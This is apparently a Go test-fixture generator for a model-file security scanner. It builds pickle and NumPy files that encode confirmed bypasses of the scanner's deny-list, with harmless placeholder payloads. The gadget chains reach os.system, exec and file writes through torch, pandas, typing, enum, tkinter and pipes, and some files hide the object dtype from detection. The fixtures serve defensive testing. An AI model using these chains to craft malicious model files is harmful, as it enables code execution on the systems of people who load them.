package testgen

import "github.com/aisecops/aisec/internal/format/pickle/pickletest"

// Red-team findings against aisec's own pickle policy and parser (see HUNT.md). Every case
// was confirmed against the real loader (CPython 3.11 pickle, torch 1.13 torch.load) with a
// marker payload; the fixtures themselves carry only the package's harmless payloads.

// huntPayload is what a hunt fixture asks the loader to do: run a shell command, run Python
// source, create a file, or load another file by path.
type huntPayload struct {
	cmd, code, path, load string
}

// huntCases are the confirmed bypasses with the package's harmless payloads.
func huntCases() []Case {
	return huntCasesFor(huntPayload{cmd: Cmd, code: PyCode, path: deadPath, load: deadPath})
}

// huntCasesFor builds the bypass fixtures around one payload, so that a verification harness
// can substitute a marker command without duplicating the table.
func huntCasesFor(p huntPayload) []Case {
	gs := []gadget{
		{"hunt_pandas_expr.pkl", "pandas.core.computation.expr.Expr(source, 'python', 'python') evaluates attribute and call chains while parsing; the capitalised-class rule allows it, so there is no finding at all", call("pandas.core.computation.expr", "Expr", pandasExpr(p.cmd), "python", "python"), false},
		{"hunt_torch_import_dotted_name.pkl", "torch._utils._import_dotted_name('os.system')(cmd): a universal import trampoline next to the allowed rebuild helpers", apply{call("torch._utils", "_import_dotted_name", "os.system"), args(p.cmd)}, false},
		{"hunt_unittest_mock_pkgutil.pkl", "unittest.mock.pkgutil.resolve_name('os:system')(cmd): the denied pkgutil re-exported by unittest.mock, not a component-denied module", apply{call2(sglob{"unittest.mock", "pkgutil.resolve_name"}, "os:system"), args(p.cmd)}, true},
		{"hunt_typing_eval_type.pkl", "typing._eval_type(typing.ForwardRef(source), None, None) evals source", call("typing", "_eval_type", call("typing", "ForwardRef", p.code), nil, nil), false},
		{"hunt_dataclasses_create_fn.pkl", "dataclasses._create_fn('f', ['x=<source>'], ['pass']) execs a def whose default runs source", call("dataclasses", "_create_fn", "f", list{"x=" + p.code}, list{"pass"}), false},
		{"hunt_torch_fx_reduce_graph_module.pkl", "torch.fx.graph_module.reduce_graph_module({'code': source}, '') execs source (GraphModule's own reducer)", call("torch.fx.graph_module", "reduce_graph_module", dictOf{[]string{"code"}, []any{"from os import system\nsystem('" + p.cmd + "')\n"}}, ""), false},
		{"hunt_inspect_getattr_static.pkl", "inspect.getattr_static(_frozen_importlib._gcd_import('os'), 'system')(cmd): an import function and a getattr outside the denylists", apply{call("inspect", "getattr_static", call("_frozen_importlib", "_gcd_import", "os"), "system"), args(p.cmd)}, false},
		{"hunt_random_os_alias.pkl", "random._os.system(cmd): os re-exported under the private alias _os, which the component check does not know", apply{sglob{"random", "_os.system"}, args(p.cmd)}, true},
		{"hunt_enum_bltns_exec.pkl", "enum.bltns.exec(source): builtins re-exported by enum as bltns", apply{sglob{"enum", "bltns.exec"}, args(p.code)}, true},
		{"hunt_torch_serialization_torch_load.pkl", "torch.serialization.torch.load(path): the denied torch.load reached through a module that imports torch", call2(sglob{"torch.serialization", "torch.load"}, p.load), true},
		{"hunt_model_zoo_load_url.pkl", "torch.utils.model_zoo.load_url(url, dir): fetches a URL (file:// too) and torch.load()s it", call("torch.utils.model_zoo", "load_url", "file://"+p.load, "/tmp/aisec-hunt-zoo"), false},
		{"hunt_py2_stringio_open.pkl", "StringIO.open(path, 'w'): protocol < 3 maps the Python 2 module StringIO to io, so this is io.open", call("StringIO", "open", p.path, "w"), false},
		{"hunt_pyio_open.pkl", "_pyio.open(path, 'w'): the pure-Python io module is not denied like io/_io", call("_pyio", "open", p.path, "w"), false},
		{"hunt_pathlib_posixpath_write_text.pkl", "pathlib.PosixPath.write_text(PosixPath(path), data): the denylist only spells pathlib.Path.*", call2(sglob{"pathlib", "PosixPath.write_text"}, call("pathlib", "PosixPath", p.path), "aisec-test"), true},
		{"hunt_gzip_open.pkl", "gzip.open(path, 'wb') creates or truncates a file (also bz2.open, lzma.open)", call("gzip", "open", p.path, "wb"), false},
		{"hunt_tkinter_tcl_exec.pkl", "_tkinter.TkappType.eval(_tkinter.create(..., wantTk=False), 'exec cmd'): a Tcl interpreter runs the command, no display needed", call2(sglob{"_tkinter", "TkappType.eval"}, call("_tkinter", "create", nil, "aisec", "Tk", false, false, false, false, nil), "exec "+p.cmd), true},
		{"hunt_antigravity_import.pkl", "importing antigravity launches a web browser process (webbrowser.open) as a side effect of find_class", glob{"antigravity", "geohash"}, false},
	}
	cs := casesOf(gs)
	cs = append(cs, huntNumPyCases(p.cmd)...)
	cs = append(cs, malicious("hunt_pipes_template_copy.pkl", "pipes.Template.copy(t, '', '') with t.steps set by BUILD runs os.system(cmd)", pipesTemplate(p.cmd)))
	return cs
}

// call2 is apply{fn, args}: a call whose callable is any value, e.g. a dotted STACK_GLOBAL.
func call2(fn any, a ...any) apply { return apply{fn, a} }

// pandasExpr is a pandas expression that reaches builtins from the Timestamp class pandas puts
// in every evaluation scope, then runs cmd. It needs no name from the caller's frame.
func pandasExpr(cmd string) string {
	return "Timestamp.now.__globals__.get('__builtins__').__import__('os').system('" + cmd + "')"
}

// pipesTemplate is pipes.Template.copy(t, "", "") where t = pipes.Template() whose __dict__
// BUILD sets to {'steps': [(cmd, '--')], 'debugging': 0}.
func pipesTemplate(cmd string) []byte {
	p := pickletest.New()
	p.StackGlobal("pipes", "Template.copy")
	p.StackGlobal("pipes", "Template").EmptyTuple().Reduce()
	p.EmptyDict()
	binUnicode(p, "steps")
	p.EmptyList()
	binUnicode(p, cmd)
	binUnicode(p, "--")
	p.Tuple2().Append().SetItem()
	binUnicode(p, "debugging")
	intArg(p, 0)
	p.SetItem().Build()
	binUnicode(p, "")
	binUnicode(p, "")
	p.Tuple3().Reduce()
	return framed(p.Stop().Bytes())
}

// huntNumPyCases are .npy files whose object dtype is spelled in ways np.load accepts (the header
// is a Python literal read with ast.literal_eval, the descr goes through np.dtype) but a pattern
// for 'O' does not see, so the pickle after the header is never walked.
func huntNumPyCases(cmd string) []Case {
	payload := pickleOf(call("os", "system", cmd))
	mk := func(name, technique, descr string) Case {
		c := malicious(name, technique, huntNpy("{'descr': "+descr+", 'fortran_order': False, 'shape': (1,), }", payload))
		c.Format = FmtNumPy
		return c
	}
	return []Case{
		mk("hunt_npy_descr_object_word.npy", "descr 'object': np.dtype('object') is the object dtype", "'object'"),
		mk("hunt_npy_descr_escaped_O.npy", "descr '\\x4f': literal_eval decodes the escape to 'O'", `'\x4f'`),
		mk("hunt_npy_descr_subarray_tuple.npy", "descr ('|O', (1,)): a subarray dtype of objects written as a tuple", "('|O', (1,))"),
		mk("hunt_npy_descr_struct_object_word.npy", "descr [('a', 'object')]: a structured dtype with an object field spelled as a word", "[('a', 'object')]"),
	}
}

// huntNpy is a version 1.0 .npy with the given header dict text, padded to 64 bytes.
func huntNpy(header string, body []byte) []byte {
	const prefix = 10
	total := prefix + len(header) + 1
	for total%64 != 0 {
		header += " "
		total++
	}
	header += "\n"
	out := append([]byte("\x93NUMPY\x01\x00"), byte(len(header)), byte(len(header)>>8))
	out = append(out, header...)
	return append(out, body...)
}
